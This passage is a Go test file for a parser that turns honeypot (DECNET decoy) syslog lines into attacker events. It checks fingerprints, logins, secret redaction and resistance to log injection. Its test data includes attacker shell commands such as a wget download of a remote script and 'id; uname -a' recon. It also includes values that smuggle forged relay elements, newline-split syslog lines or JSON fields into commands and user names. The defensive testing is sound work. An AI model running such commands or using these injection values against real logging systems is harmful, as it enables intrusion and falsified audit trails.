package dialect

import (
	"crypto/sha256"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"dossier/correlate/event"
	"dossier/correlate/redact"
)

const stamp = "2026-01-02T03:04:05.678901+00:00"

// show writes an event on one line, times as the seconds of its day.
func show(ev *event.Event) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s/%s %s %s", ev.Addr, ev.Decky, ev.Service, ev.Type, ev.Kind)
	if ev.Phase&event.Recon != 0 {
		b.WriteString(" recon")
	}
	if ev.Phase&event.Exfil != 0 {
		b.WriteString(" exfil")
	}
	switch ev.Proof {
	case event.ByConnection:
		b.WriteString(" handshake")
	case event.ByShell, event.BySession:
		b.WriteString(" " + ev.Proof.String())
	}
	if ev.Large {
		b.WriteString(" large")
	}
	switch ev.Role {
	case event.Sniffer:
		b.WriteString(" sniffer")
	case event.Prober:
		b.WriteString(" prober")
	case event.Contact:
		b.WriteString(" contact")
	}
	for i := range ev.Evidence {
		b.WriteString(" | " + showEvidence(&ev.Evidence[i]))
	}
	return b.String()
}

func showEvidence(e *event.Evidence) string {
	names := map[event.EvidenceKind]string{
		event.Command: "command", event.Login: "login", event.Fingerprint: "fingerprint", event.Artifact: "artifact",
		event.Leak: "leak", event.Session: "session", event.Recipient: "recipient", event.Message: "message",
		event.Stack: "stack", event.Retransmits: "retransmits", event.KexOrder: "kex", event.Tool: "tool",
		event.Technique: "technique", event.Alert: "alert", event.Said: "said",
		event.Indicator: "indicator", event.Forward: "forward",
	}
	var b strings.Builder
	b.WriteString(names[e.Kind])
	if e.A != "" || e.Kind == event.Login {
		fmt.Fprintf(&b, " %q", e.A)
	}
	if e.B != "" {
		fmt.Fprintf(&b, " %q", e.B)
	}
	if e.C != "" {
		fmt.Fprintf(&b, " %q", e.C)
	}
	if e.N != 0 || e.M != 0 {
		fmt.Fprintf(&b, " %d %d", e.N, e.M)
	}
	if e.Outcome != event.Unknown {
		b.WriteString(" " + e.Outcome.String())
	}
	for _, f := range e.Payload {
		fmt.Fprintf(&b, " %s=%s", f.Key, f.Value)
	}
	return b.String()
}

// read parses a record and shows the result: the event, or the verdict.
func read(t testing.TB, p *Parser, r *event.Record) string {
	t.Helper()
	var a event.Arena
	var ev event.Event
	v := p.Parse(&a, r, &ev)
	if v.Class() != Parsed {
		return v.Class().String() + "/" + v.Reason.String()
	}
	if v.ClockSkew {
		return withoutSaid(&ev) + " SKEW"
	}
	return withoutSaid(&ev)
}

// withoutSaid shows an event but for what nobody keeps: that is in the golden
// files.
func withoutSaid(ev *event.Event) string {
	kept := *ev
	kept.Evidence = slices.DeleteFunc(slices.Clone(ev.Evidence), func(e event.Evidence) bool { return e.Kind == event.Said })
	return show(&kept)
}

func TestDECNETLines(t *testing.T) {
	tests := []struct {
		name, line, want string
	}{
		{
			"connection",
			`<134>1 ` + stamp + ` decky-01 ftp - connection [relay@55555 src_ip="45.9.148.10" src_port="51234"]`,
			`45.9.148.10 decky-01/ftp connection scan recon handshake`,
		},
		{
			"request with JSON headers",
			`<134>1 ` + stamp + ` decky-03 http - request [relay@55555 method="GET" path="/admin" remote_addr="45.9.148.10" headers="{\"Host\": \"x\", \"User-Agent\": \"curl/8.1\"}" body=""]`,
			`45.9.148.10 decky-03/http request scan recon handshake` +
				` | fingerprint "http_useragent" "curl/8.1" category=cli tool=curl method=GET path=/admin` +
				` | fingerprint "http_quirks" "1dfde7f6d9bfacd1" order=host,user-agent casing_category=title`,
		},
		{
			"request with Python headers",
			`<134>1 ` + stamp + ` decky-03 https - request [relay@55555 method="GET" path="/" remote_addr="45.9.148.10" headers="{'Host': 'x', \"User-Agent\": \"Mozilla/5.0 o'k\", 'X-Forwarded-For': '93.184.216.34, 10.0.0.1'}" body=""]`,
			`45.9.148.10 decky-03/https request scan recon handshake` +
				` | fingerprint "http_useragent" "Mozilla/5.0 o'k" category=browser method=GET path=/` +
				` | leak "93.184.216.34" "X-Forwarded-For" "public"` +
				` | fingerprint "http_quirks" "1dfde7f6d9bfacd1" order=host,user-agent casing_category=title`,
		},
		{
			"a claim that can't be public",
			`<134>1 ` + stamp + ` decky-03 http - request [relay@55555 remote_addr="45.9.148.10" headers="{\"Forwarded\": \"proto=http;for=\\\"[::1\]:80\\\"\"}"]`,
			`45.9.148.10 decky-03/http request scan recon handshake | leak "::1" "Forwarded" "loopback"`,
		},
		{
			"redis with arguments in brackets",
			`<134>1 ` + stamp + ` decky-04 redis - command [relay@55555 src="45.9.148.10" cmd="SET" args="['k', 'v w', \"it's\"\]"]`,
			`45.9.148.10 decky-04/redis command interaction exfil handshake | command "SET k \"v w\" \"it's\""`,
		},
		{
			"a principal of None, bytes that are no text",
			`<134>1 ` + stamp + ` decky-04 redis - auth [relay@55555 src="45.9.148.10" principal="None" secret_printable="p\"??\]x" secret_b64="cCLDpF14"]`,
			`45.9.148.10 decky-04/redis auth scan recon handshake | login "" "plaintext" "p\"ä]x"`,
		},
		{
			"a secret in bytes",
			`<134>1 ` + stamp + ` d mysql - auth [relay@55555 src="45.9.148.10" username="admin" secret_kind="mysql_native_password" secret_b64="AP8="]`,
			`45.9.148.10 d/mysql auth scan recon handshake | login "admin" "mysql_native_password" "00ff"`,
		},
		{
			"a login without a secret is an attempt",
			`<134>1 ` + stamp + ` d imap - auth [relay@55555 src="45.9.148.10" username="bob" outcome="success"]`,
			`45.9.148.10 d/imap auth scan recon handshake | login "bob" success`,
		},
		{
			"a secret that isn't base64",
			`<134>1 ` + stamp + ` d http - request [relay@55555 src="45.9.148.10" principal="bob" secret_b64="!!"]`,
			`45.9.148.10 d/http request scan recon handshake`,
		},
		{
			"a recipient taken",
			`<134>1 ` + stamp + ` decky-06 smtp - rcpt_to [relay@55555 src="45.9.148.10" value="<ceo@acme.com>"]`,
			`45.9.148.10 decky-06/smtp rcpt_to interaction handshake | recipient "acme.com" success`,
		},
		{
			"a recipient denied",
			`<132>1 ` + stamp + ` decky-06 smtp_relay - rcpt_denied [relay@55555 src="45.9.148.10" value="<ceo@B\C3\BCCHER.DE>"]`,
			`45.9.148.10 decky-06/smtp_relay rcpt_denied interaction handshake`,
		},
		{
			"a message for several domains",
			`<134>1 ` + stamp + ` d smtp_relay - message_accepted [relay@55555 src="45.9.148.10" rcpt_to="<x@foo.invalid>,<u@bücher.de>,<z@corp.local>,<y@a.com>,<q@A.com.>" body_bytes="4"]`,
			`45.9.148.10 d/smtp_relay message_accepted interaction handshake | message "xn--bcher-kva.de" | message "a.com"`,
		},
		{
			"a mail keeps domains only",
			`<134>1 ` + stamp + ` d smtp - message_stored [relay@55555 src="45.9.148.10" stored_as="m.eml" sha256="4A187344AC264f921fe5559d9e676e208dbf72e002f9890092f43eeb66b188e2" size="1234" mail_from="<spam@evil.tld>" rcpt_to="<y@bar.example>,<y@bar.example>" subject="to ceo@acme.com" from_hdr="Boss <a@evil.tld>" to_hdr="b@acme.com" attachments_json="[\]"]`,
			`45.9.148.10 d/smtp message_stored scan handshake | artifact "4a187344ac264f921fe5559d9e676e208dbf72e002f9890092f43eeb66b188e2" "mail" stored_as=m.eml size=1234 subject=to ***@acme.com from_hdr=evil.tld to_hdr=acme.com mail_from=evil.tld rcpt_to=bar.example`,
		},
		{
			"a file",
			`<134>1 ` + stamp + ` d ssh - file_captured [relay@55555 stored_as="s" sha256="15dcde1ea7108d817a54084ee2692e6d3752541ca9482b6c94352e952d880c1f" size="1048576" orig_path="/tmp/x" src_ip="89.61.198.201" attribution="pid-chain" writer_comm="wget"]`,
			`89.61.198.201 d/ssh file_captured interaction session large | artifact "15dcde1ea7108d817a54084ee2692e6d3752541ca9482b6c94352e952d880c1f" "file" stored_as=s size=1048576 orig_path=/tmp/x attribution=pid-chain writer_comm=wget`,
		},
		{
			"SNMP proves no address",
			`<134>1 ` + stamp + ` decky-09 snmp - get_request [relay@55555 src="1.1.1.1" src_port="5" version="v2c" community="public" oids="['1.3.6.1'\]" principal="None" secret_kind="snmp_community" secret_printable="public" secret_b64="cHVibGlj"]`,
			`1.1.1.1 decky-09/snmp get_request scan | login "" "snmp_community" "public"`,
		},
		{
			"DNS over UDP",
			`<134>1 ` + stamp + ` d dns - query [relay@55555 src="1.1.1.1" transport="udp" qname="a.b"]`,
			`1.1.1.1 d/dns query interaction exfil`,
		},
		{
			"DNS over TCP",
			`<134>1 ` + stamp + ` d dns - zone_transfer [relay@55555 src="1.1.1.1" transport="tcp" zone="a.b"]`,
			`1.1.1.1 d/dns zone_transfer scan handshake`,
		},
		{
			"TLS seen by the sniffer",
			`<134>1 ` + stamp + ` decky-01 sniffer - tls_client_hello [relay@55555 src_ip="45.9.148.10" dst_ip="10.0.0.5" dst_port="443" ja3="e7d7" ja4="t13d" ja3s="" tls_version="TLS 1.3" alpn="h2" ja4l_rtt_ms="73.03" ja4l_client_ttl="52"]`,
			`45.9.148.10 decky-01/ tls_client_hello scan sniffer | fingerprint "ja3" "e7d7" ja4=t13d tls_version=TLS 1.3 alpn=h2 dst_port=443 | fingerprint "ja4" "t13d" | fingerprint "ja4l" "<128ms_52" rtt_ms=73.03 ja4l_client_ttl=52`,
		},
		{
			"a banner seen by the sniffer",
			`<134>1 ` + stamp + ` decky-01 sniffer - ssh_client_banner [relay@55555 src_ip="45.9.148.10" dst_ip="10.0.0.5" dst_port="22" ssh_version="SSH-2.0-Go"]`,
			`45.9.148.10 decky-01/ ssh_client_banner scan sniffer | fingerprint "ssh_client_banner" "SSH-2.0-Go"`,
		},
		{
			"the decoy's answer by TLS",
			`<134>1 ` + stamp + ` decky-01 sniffer - tls_session [relay@55555 src_ip="45.9.148.10" dst_ip="10.0.0.5" dst_port="443" ja3s="ab" ja3="e7d7"]`,
			`45.9.148.10 decky-01/ tls_session scan handshake sniffer | fingerprint "ja3" "e7d7" ja3s=ab dst_port=443 | fingerprint "ja3s" "ab"`,
		},
		{
			"a decoy that talks to itself",
			`<134>1 ` + stamp + ` decky-01 sniffer - tls_session [relay@55555 src_ip="10.0.0.5" dst_ip="10.0.0.5" dst_port="443" ja3s="ab"]`,
			`unattributed/decoys_only`,
		},
		{
			"a SYN seen by the sniffer",
			`<134>1 ` + stamp + ` decky-04 sniffer - tcp_syn_fingerprint [relay@55555 src_ip="80.30.105.128" ttl="90" initial_ttl="64" hop_distance="3" window="5840" mss="1400" wscale="2" options_sig="M,S" has_sack="true" ipid_class="unknown" os_guess="linux"]`,
			`80.30.105.128 decky-04/ tcp_syn_fingerprint scan sniffer | stack "linux" 90 3 window=5840 wscale=2 mss=1400 options_sig=M,S has_sack=true ipid_class=unknown`,
		},
		{
			"a flow seen by the sniffer",
			`<134>1 ` + stamp + ` decky-04 sniffer - tcp_flow_timing [relay@55555 src_ip="80.30.105.128" bytes="2000000" retransmits="2"]`,
			`80.30.105.128 decky-04/ tcp_flow_timing scan large sniffer | retransmits 2 0`,
		},
		{
			"our own probe",
			`<134>1 ` + stamp + ` decnet-prober prober - jarm_fingerprint [relay@55555 target_ip="45.9.148.10" target_port="443" jarm_hash="2ad2"] JARM 45.9.148.10:443 = 2ad2`,
			`45.9.148.10 / jarm_fingerprint scan handshake prober | fingerprint "jarm" "2ad2" target_port=443`,
		},
		{
			"our own probe of a stack",
			`<134>1 ` + stamp + ` decnet-prober prober - tcpfp_fingerprint [relay@55555 target_ip="45.9.148.10" tcpfp_hash="aa" ttl="52" window_size="64240" sack_ok="1" timestamp="0" options_order="M,S"]`,
			`45.9.148.10 / tcpfp_fingerprint scan handshake prober | stack 52 0 window=64240 options_sig=M,S has_sack=true has_timestamps=false | fingerprint "tcpfp" "aa" ttl=52 window_size=64240 sack_ok=1 timestamp=0 options_order=M,S`,
		},
		{
			"an SSH server's key exchange",
			`<134>1 ` + stamp + ` decnet-prober prober - hassh_fingerprint [relay@55555 target_ip="45.9.148.10" hassh_server_hash="b1" kex_algorithms="c,d"]`,
			`45.9.148.10 / hassh_fingerprint scan handshake prober | fingerprint "hassh_server" "b1" kex_algorithms=c,d | kex "c,d"`,
		},
		{
			"a sensor that starts",
			`<134>1 ` + stamp + ` decky-01 ftp - startup - FTP server starting as decky-01 on port 21`,
			`unattributed/sensor_event`,
		},
		{
			"a start the attacker caused",
			`<134>1 ` + stamp + ` d postgres - startup [relay@55555 src="1.1.1.1" username="oracle" database="prod"]`,
			`1.1.1.1 d/postgres startup noise handshake`,
		},
		{
			"a shell line, wrapped twice",
			`<14>1 2026-01-02T03:04:06+00:00 dockerhost 1 - - - 2026-01-02T03:04:06.000001+00:00 decky-01 bash - command [timeQuality tzKnown="1"] CMD uid=0 user=root src=45.9.148.10 pwd=/root cmd=id; uname -a`,
			`45.9.148.10 decky-01/ssh command interaction exfil shell | command "id; uname -a"`,
		},
		{
			"a shell line without structured data",
			`<14>1 ` + stamp + ` decky-08 bash - - - CMD uid=0 user=root src=::ffff:45.9.150.1 pwd=/root cmd=id`,
			`45.9.150.1 decky-08/ssh command interaction exfil shell | command "id"`,
		},
		{
			"a login at the shell's door",
			`<134>1 ` + stamp + ` decky-01 auth-helper - auth_attempt [relay@55555 username="DOMAIN\\alice" principal="DOMAIN\\alice" secret_printable="toor" secret_b64="dG9vcg==" src_ip="45.9.148.10"]`,
			`45.9.148.10 decky-01/ssh auth_attempt scan recon handshake | login "DOMAIN\\alice" "plaintext" "toor"`,
		},
		{
			"a recorded session",
			`<134>1 ` + stamp + ` d sessrec - session_recorded [relay@55555 sid="4119f4d9" service="telnet" src_ip="89.61.198.201" duration_s="800.274" bytes="724944" truncated="false"]`,
			`89.61.198.201 d/telnet session_recorded interaction shell | session "4119f4d9" 800274 0`,
		},
		{
			"a mutation", `<134>1 ` + stamp + ` decky-08 mutator - decky_mutated [relay@55555 decky="decky-08" src_ip="1.1.1.1"]`,
			`dropped/sensor_report`,
		},
		{"a dropped program", `<38>1 ` + stamp + ` d sshd 1234 - - Failed password for root from 45.9.148.249 port 1 ssh2`, `dropped/drop_app`},
		{"a dropped program with a PID", `<38>1 ` + stamp + ` d sshd[12] - - - Failed password for root from 45.9.148.249 port 1 ssh2`, `dropped/drop_app`},

		// The grammar.
		{"a bracket in a value", `<134>1 ` + stamp + ` d ssh - x [relay@55555 a="x]y" src_ip="1.1.1.1"]`, `1.1.1.1 d/ssh x scan handshake`},
		{"a newline in a value", "<134>1 " + stamp + " d ssh - x [relay@55555 a=\"x\ny\" src_ip=\"1.1.1.1\"]", `1.1.1.1 d/ssh x scan handshake`},
		{"a backslash before the quote's end", `<134>1 ` + stamp + ` d ssh - x [relay@55555 a="x\\" src_ip="1.1.1.1"]`, `1.1.1.1 d/ssh x scan handshake`},
		{"an escaped quote after a backslash", `<134>1 ` + stamp + ` d ssh - x [relay@55555 a="\\\" src_ip=\"6.6.6.6" src_ip="1.1.1.1"]`, `1.1.1.1 d/ssh x scan handshake`},
		{"two elements", `<134>1 ` + stamp + ` d ssh - x [timeQuality tzKnown="1"][relay@55555 src_ip="1.1.1.1"]`, `1.1.1.1 d/ssh x scan handshake`},
		{"two relay elements", `<134>1 ` + stamp + ` d ssh - x [relay@55555 src_ip="1.1.1.1"][relay@55555 src_ip="6.6.6.6"]`, `unparsed/bad_data`},
		{"a PROCID", `<134>1 ` + stamp + ` d ssh 42 x [relay@55555 src_ip="1.1.1.1"]`, `1.1.1.1 d/ssh x scan handshake`},
		{"a byte order mark", "<134>1 " + stamp + " d ssh - x [relay@55555 src_ip=\"1.1.1.1\"] \ufefftext", `1.1.1.1 d/ssh x scan handshake`},
		{"a byte order mark at the start", "\ufeff<134>1 " + stamp + " d ssh - x [relay@55555 src_ip=\"1.1.1.1\"]", `1.1.1.1 d/ssh x scan handshake`},
		{"white space around", "  <134>1 " + stamp + " d ssh - x [relay@55555 src_ip=\"1.1.1.1\"] \r\n", `1.1.1.1 d/ssh x scan handshake`},
		{"no host", `<134>1 ` + stamp + ` - ssh - x [relay@55555 src_ip="1.1.1.1"]`, `1.1.1.1 /ssh x scan handshake`},
		{"no program", `<134>1 ` + stamp + ` d - - x [relay@55555 src_ip="1.1.1.1"]`, `1.1.1.1 d/ x scan`},
		{"no type", `<134>1 ` + stamp + ` d ssh - - [relay@55555 src_ip="1.1.1.1"]`, `1.1.1.1 d/ssh  scan handshake`},
		{"another version", `<134>2 ` + stamp + ` d ssh - x [relay@55555 src_ip="1.1.1.1"]`, `unparsed/bad_header`},
		{"no priority", `1 ` + stamp + ` d ssh - x [relay@55555 src_ip="1.1.1.1"]`, `unparsed/unknown_shape`},
		{"no structured data", `<134>1 ` + stamp + ` d ssh - x hello`, `unparsed/bad_data`},
		{"an open element", `<134>1 ` + stamp + ` d ssh - x [relay@55555 src_ip="1.1.1.1"`, `unparsed/bad_data`},
		{"an open value", `<134>1 ` + stamp + ` d ssh - x [relay@55555 src_ip="1.1.1.1]`, `unparsed/bad_data`},
		{"text behind an element", `<134>1 ` + stamp + ` d ssh - x [relay@55555 src_ip="1.1.1.1"]x`, `unparsed/bad_data`},
		{"another enterprise", `<134>1 ` + stamp + ` d ssh - x [relay@5555 src_ip="1.1.1.1"]`, `unattributed/no_address`},
		{"empty", "", `unparsed/empty`},
		{"prose", "not a syslog line", `unparsed/unknown_shape`},

		// Times.
		{"no time", `<134>1 - d ssh - x [relay@55555 src_ip="1.1.1.1"]`, `1.1.1.1 d/ssh x scan handshake SKEW`},
		{"no such time", `<134>1 2026-13-01T00:00:00Z d ssh - x [relay@55555 src_ip="1.1.1.1"]`, `1.1.1.1 d/ssh x scan handshake SKEW`},
		{"far ahead", `<134>1 2026-12-01T00:10:01Z d ssh - x [relay@55555 src_ip="1.1.1.1"]`, `1.1.1.1 d/ssh x scan handshake SKEW`},
		{"a little ahead", `<134>1 2026-12-01T00:10:00Z d ssh - x [relay@55555 src_ip="1.1.1.1"]`, `1.1.1.1 d/ssh x scan handshake`},

		// Addresses.
		{"with a port", `<134>1 ` + stamp + ` d http - http_access [relay@55555 remote_addr="1.2.3.4:51234" bytes="1048575"]`, `1.2.3.4 d/http http_access scan handshake`},
		{"IPv6 with a port", `<134>1 ` + stamp + ` d http - http_access [relay@55555 remote_addr="[2001:db8::5\]:51234"]`, `2001:db8::5 d/http http_access scan handshake`},
		{"a zone", `<134>1 ` + stamp + ` d http - x [relay@55555 src_ip="fe80::1%eth0"]`, `fe80::1 d/http x scan handshake`},
		{"a question mark", `<134>1 ` + stamp + ` d smtp - disconnect [relay@55555 src="?"]`, `unattributed/no_address`},
		{"a hyphen", `<134>1 ` + stamp + ` d sessrec - session_recorded [relay@55555 src_ip="-"]`, `unattributed/no_address`},
		{"Unknown", `<134>1 ` + stamp + ` d ssh - x [relay@55555 src_ip="Unknown"]`, `unattributed/no_address`},
		{"out of range", `<134>1 ` + stamp + ` d ssh - x [relay@55555 src_ip="999.1.2.3"]`, `unattributed/bad_address`},
		{"the first field decides", `<134>1 ` + stamp + ` d vnc - connect [relay@55555 src_ip="" src="45.9.150.2"]`, `unattributed/no_address`},
		{"the first field decides, in DECNET's order", `<134>1 ` + stamp + ` d vnc - connect [relay@55555 ip="6.6.6.6" src="45.9.150.2"]`, `45.9.150.2 d/vnc connect scan recon handshake`},
		{"a target is no attacker", `<134>1 ` + stamp + ` d ssh - x [relay@55555 target_ip="6.6.6.6"]`, `unattributed/no_address`},
		{"nothing of an address", `<134>1 ` + stamp + ` d ftp - user [relay@55555 username="postgres"]`, `unattributed/no_address`},
		{"an address in prose", `<134>1 ` + stamp + ` d ftp - user - connection from 6.6.6.6`, `unattributed/no_address`},
	}
	p := newParser(t, Options{})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := read(t, p, logRecord(tt.line)); got != tt.want {
				t.Errorf("%s\n got %s\nwant %s", tt.line, got, tt.want)
			}
		})
	}
}

// What an attacker types or sends must not choose an address, an event or a
// field.
func TestDECNETInjection(t *testing.T) {
	const head = `<14>1 ` + stamp + ` decky-01 bash - command [timeQuality tzKnown="1"] CMD uid=0 user=root src=45.9.148.10 pwd=/root cmd=`
	tests := []struct {
		name, line, want string
	}{
		{
			"a relay element in a command", head + `echo [relay@55555 src_ip="6.6.6.6" command="x"]`,
			`45.9.148.10 decky-01/ssh command interaction exfil shell | command "echo [relay@55555 src_ip=\"6.6.6.6\" command=\"x\"]"`,
		},
		{
			"another address in a command", head + `ls src=6.6.6.6 cmd=rm`,
			`45.9.148.10 decky-01/ssh command interaction exfil shell | command "ls src=6.6.6.6 cmd=rm"`,
		},
		{
			"a whole line in a command", head + "ls\n<134>1 " + stamp + ` d ssh - x [relay@55555 src_ip="6.6.6.6"]`,
			`45.9.148.10 decky-01/ssh command interaction exfil shell | command "ls\\x0a<134>1 2026-01-02T03:04:05.678901+00:00 d ssh - x [relay@55555 src_ip=\"6.6.6.6\"]"`,
		},
		{
			"colours and bidi in a command", head + "a\x1b[31m\u202eb\xff",
			`45.9.148.10 decky-01/ssh command interaction exfil shell | command "a\\x1b[31m\\u202eb�"`,
		},
		{
			"an address in a telnet command",
			`<14>1 ` + stamp + ` decky-02 bash - command [timeQuality tzKnown="1"] CMD uid=0 pwd=/root cmd=wget http://1.2.3.7/x.sh from 1.2.3.8 src=1.2.3.9`,
			`unattributed/ownerless_command`,
		},
		{
			"an address in a directory's name",
			`<14>1 ` + stamp + ` decky-02 bash - command - CMD uid=0 pwd=/tmp/x src=6.6.6.6 cmd=ls`,
			`unattributed/ownerless_command`,
		},
		{
			"an address in a user's name",
			`<14>1 ` + stamp + ` decky-02 bash - command - CMD uid=0 user=x src=6.6.6.6 src=45.9.148.10 pwd=/ cmd=ls`,
			`unattributed/ambiguous_address`,
		},
		{
			"a relay element in a message without structured data",
			`<14>1 ` + stamp + ` d ssh - x - [relay@55555 src_ip="6.6.6.6"]`,
			`unattributed/no_address`,
		},
		{
			"a wrapped line that no relay wrapped",
			`<14>1 ` + stamp + ` d app - - - ` + stamp + ` d ssh - x [relay@55555 src_ip="6.6.6.6"]`,
			`unattributed/no_address`,
		},
		{
			"the rest of a line behind a newline in a body",
			`<134>1 ` + stamp + ` d ssh - x [relay@55555 src_ip=\"6.6.6.6\"\]" user_agent="x"]`,
			`unparsed/bad_data`,
		},
		{
			"JSON in a user name",
			`<134>1 ` + stamp + ` d ssh - auth [relay@55555 username="x\",\"src_ip\":\"6.6.6.6" src_ip="1.1.1.1"]`,
			`1.1.1.1 d/ssh auth scan recon handshake | login "x\",\"src_ip\":\"6.6.6.6"`,
		},
		{
			"an address in a header",
			`<134>1 ` + stamp + ` d http - request [relay@55555 remote_addr="1.1.1.1" headers="{\"src_ip\": \"6.6.6.6\"}"]`,
			`1.1.1.1 d/http request scan recon handshake | fingerprint "http_quirks" "d0a43a1e0a01463f" order=src_ip casing_category=lower`,
		},
	}
	p := newParser(t, Options{})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := read(t, p, logRecord(tt.line)); got != tt.want {
				t.Errorf("%s\n got %s\nwant %s", tt.line, got, tt.want)
			}
		})
	}
}

// One line may come in many wrappings; the event must be the same.
func TestDECNETWrappings(t *testing.T) {
	const line = `<134>1 ` + stamp + ` decky-04 redis - command [relay@55555 src="45.9.148.10" cmd="SET" args="['k', 'v'\] x"] said "hi" ] there`
	quoted := fmt.Sprintf("%q", line)
	want := `45.9.148.10 decky-04/redis command interaction exfil handshake | command "SET ['k', 'v'] x"`
	rec := func(kv ...string) *event.Record {
		r := &event.Record{Time: recordTime}
		for i := 0; i < len(kv); i += 2 {
			r.Fields = append(r.Fields, event.Field{Key: kv[i], Value: kv[i+1]})
		}
		return r
	}
	collector := `{"timestamp":"2026-01-02 03:04:05","decky":"decky-04","service":"redis","event_type":"command","attacker_ip":"6.6.6.6","fields":{"src":"45.9.148.10","cmd":"SET","args":"['k', 'v'] x"},"msg":"said"`
	tests := map[string]*event.Record{
		"log":                      rec("log", line),
		"message":                  rec("message", line),
		"MESSAGE":                  rec("MESSAGE", line, "_PID", "1"),
		"msg":                      rec("stream", "x", "msg", line),
		"raw_line":                 rec("raw_line", line, "message", "<134>1 other"),
		"collector's text":         rec("log", collector+"}\n"),
		"collector's text, line":   rec("log", collector+`,"raw_line":`+quoted+"}"),
		"docker's text":            rec("log", `{"log":`+quoted+`,"stream":"stdout","time":"2026-01-02T03:04:05Z"}`),
		"docker's text, collector": rec("log", `{"log":`+fmt.Sprintf("%q", collector+"}")+`,"stream":"stdout"}`),
		"collector's map": rec("timestamp", "2026-01-02 03:04:05", "decky", "decky-04", "service", "redis",
			"event_type", "command", "attacker_ip", "6.6.6.6", "fields.src", "45.9.148.10", "fields.cmd", "SET",
			"fields.args", "['k', 'v'] x", "msg", ""),
		"split by Fluent Bit": rec("pri", "134", "host", "decky-04", "ident", "redis", "pid", "-", "msgid", "command",
			"extradata", `[relay@55555 src="45.9.148.10" cmd="SET" args="['k', 'v'\]`, "message", `x"] said "hi" ] there`),
	}
	p := newParser(t, Options{})
	for name, r := range tests {
		if got := read(t, p, r); got != want {
			t.Errorf("%s:\n got %s\nwant %s", name, got, want)
		}
	}
}

func TestDECNETDocumentAddress(t *testing.T) {
	doc := func(rest string) *event.Record {
		return logRecord(`{"timestamp":"2026-01-02 03:04:05","decky":"d","attacker_ip":"45.9.148.10",` + rest + `}`)
	}
	tests := []struct {
		name string
		r    *event.Record
		want string
	}{
		{
			"the collector may have read the message", doc(`"service":"bash","event_type":"command","fields":{},"msg":"CMD uid=0 pwd=/ cmd=wget 45.9.148.10"`),
			`unattributed/ownerless_command`,
		},
		{
			"the shell's own word", doc(`"service":"bash","event_type":"command","fields":{},"msg":"CMD uid=0 src=1.1.1.1 pwd=/ cmd=wget 45.9.148.10"`),
			`1.1.1.1 d/ssh command interaction exfil shell | command "wget 45.9.148.10"`,
		},
		{"nothing else there", doc(`"service":"ssh","event_type":"connect"`), `45.9.148.10 d/ssh connect scan recon handshake`},
		{"nobody", doc(`"service":"smtp","event_type":"disconnect","fields":{"src":"?"}`), `unattributed/no_address`},
		{"nothing", doc(`"service":"-","event_type":"-"`), `unparsed/no_type`},
		{"broken", logRecord(`{"decky":"d","service":`), `unparsed/bad_json`},
		{"no object", logRecord(`{"decky":"d"} {"x":1}`), `unparsed/bad_json`},
		{"foreign", logRecord(`{"hello":"world","message":"<134>1 ` + stamp + ` d ssh - x [relay@55555 src_ip=\"6.6.6.6\"]"}`), `unparsed/unknown_shape`},
	}
	p := newParser(t, Options{})
	for _, tt := range tests {
		if got := read(t, p, tt.r); got != tt.want {
			t.Errorf("%s:\n got %s\nwant %s", tt.name, got, tt.want)
		}
	}
}

func TestOptions(t *testing.T) {
	line := `<134>1 ` + stamp + ` own-1 noisy - auth [relay@55555 src_ip="1.1.1.1" secret_b64="eA=="]`
	digest := sha256.Sum256([]byte("x"))
	tests := []struct {
		o    Options
		want string
	}{
		{Options{}, `1.1.1.1 own-1/noisy auth scan recon | login "" "plaintext" "x"`},
		{Options{InternalDeckyPrefix: "own-"}, `1.1.1.1 /noisy auth scan recon | login "" "plaintext" "x"`},
		{Options{DropApps: []string{"noisy"}}, `dropped/drop_app`},
		{Options{Secrets: SHA256}, fmt.Sprintf(`1.1.1.1 own-1/noisy auth scan recon | login "" "plaintext" "%x"`, digest)},
		{Options{Secrets: Hidden}, `1.1.1.1 own-1/noisy auth scan recon | login "" "plaintext"`},
	}
	for _, tt := range tests {
		if got := read(t, newParser(t, tt.o), logRecord(line)); got != tt.want {
			t.Errorf("%+v:\n got %s\nwant %s", tt.o, got, tt.want)
		}
	}
	auth := `<134>1 ` + stamp + ` own-1 redis - command [relay@55555 src_ip="1.1.1.1" cmd="AUTH" args="['x'\]"]`
	for secrets, want := range map[Secrets]string{Plain: "AUTH x", SHA256: "AUTH ***", Hidden: "AUTH ***"} {
		want = `1.1.1.1 own-1/redis command interaction exfil handshake | command "` + want + `"`
		if got := read(t, newParser(t, Options{Secrets: secrets}), logRecord(auth)); got != want {
			t.Errorf("store_secrets %s:\n got %s\nwant %s", secrets, got, want)
		}
	}
	for line, want := range map[string]string{
		`imap - command [relay@55555 src="1.1.1.1" cmd="a1 LOGIN x y"]`: "a1 LOGIN ***",
		`pop3 - command [relay@55555 src="1.1.1.1" cmd="PASS y"]`:       "PASS ***",
		`pop3 - command [relay@55555 src="1.1.1.1" cmd="RETR 1"]`:       "RETR 1",
		`imap - command [relay@55555 src="1.1.1.1" cmd="a2 LIST x y"]`:  "a2 LIST x y",
	} {
		got := read(t, newParser(t, Options{Secrets: Hidden}), logRecord(`<134>1 `+stamp+` d `+line))
		if !strings.HasSuffix(got, fmt.Sprintf("| command %q", want)) {
			t.Errorf("%s: %s, want the command %q", line, got, want)
		}
	}
	for _, secrets := range []Secrets{Plain, SHA256, Hidden} {
		var a event.Arena
		var ev event.Event
		newParser(t, Options{Secrets: secrets}).Parse(&a, logRecord(line), &ev)
		if len(ev.Evidence) != 1 || ev.Evidence[0].Digest != digest {
			t.Errorf("store_secrets %s: the secret's digest must not depend on what is shown", secrets)
		}
	}
	for _, bad := range []Options{
		{Force: "kippo"},
		{DropApps: []string{""}},
		{DropApps: []string{"a b"}},
		{DecoyNets: make([]netip.Prefix, 1)},
		{Secrets: 9},
	} {
		if _, err := New(bad); err == nil {
			t.Errorf("%+v is accepted", bad)
		}
	}
}

func TestParseTime(t *testing.T) {
	at := func(s string) time.Time {
		v, err := time.Parse(time.RFC3339Nano, s)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	want := at("2026-01-02T03:04:05.678901Z")
	tests := map[string]time.Time{
		"2026-01-02T03:04:05.678901+00:00": want,
		"2026-01-02T03:04:05.678901Z":      want,
		"2026-01-02T05:04:05.678901+02:00": want,
		"2026-01-02T05:04:05.678901+0200":  want,
		"2026-01-02T05:04:05.678901+02":    want,
		"2026-01-01T22:04:05.678901-05:00": want,
